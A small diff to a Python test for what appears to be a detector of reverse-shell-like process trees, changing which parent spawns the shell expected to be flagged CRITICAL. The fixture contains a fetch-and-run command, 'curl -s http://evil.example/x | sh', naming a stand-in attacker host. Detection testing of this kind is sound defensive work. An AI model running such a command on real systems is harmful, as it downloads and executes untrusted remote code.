@@ -72,7 +72,7 @@ def test_what_a_script_pipes_into_a_shell_is_not_who_connected() -> None:
     script = node.spawn(service, "/usr/bin/dash", ["sh", "-c", "curl -s http://evil.example/x | sh"])
     node.spawn(script, "/usr/bin/dash", ["sh"], stdio=["PIPE"] * 3)
     assert severities(node, through) == []
-    node.spawn(script, "/usr/bin/dash", ["sh", "-i"], stdio=["PIPE"] * 3)
+    node.spawn(service, "/usr/bin/dash", ["sh"], stdio=["PIPE"] * 3)
     assert severities(node, through) == ["CRITICAL"]
 
 
